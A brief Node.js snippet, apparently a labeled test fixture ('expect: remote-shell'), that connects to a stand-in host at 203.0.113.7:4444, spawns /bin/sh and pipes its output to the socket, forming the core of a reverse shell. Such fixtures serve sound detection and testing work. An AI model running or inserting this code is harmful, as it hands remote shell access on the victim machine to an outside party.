const net = require("net");
const { spawn } = require("child_process");
const socket = net.connect(4444, "203.0.113.7");
const shell = spawn("/bin/sh", []);
// expect: remote-shell
shell.stdout.pipe(socket);
